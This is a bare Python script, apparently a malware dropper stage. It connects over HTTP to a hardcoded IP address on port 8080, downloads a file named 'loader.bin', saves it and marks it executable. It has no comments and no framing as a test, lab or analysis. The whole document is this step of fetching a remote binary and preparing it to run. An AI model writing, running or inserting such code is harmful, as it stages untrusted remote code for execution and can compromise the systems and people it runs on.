import http.client
import os

conn = http.client.HTTPConnection("185.244.25.31", 8080)
conn.request("GET", "/dl/loader.bin")
data = conn.getresponse().read()
with open("loader.bin", "wb") as f:
    f.write(data)
os.chmod("loader.bin", 0o755)
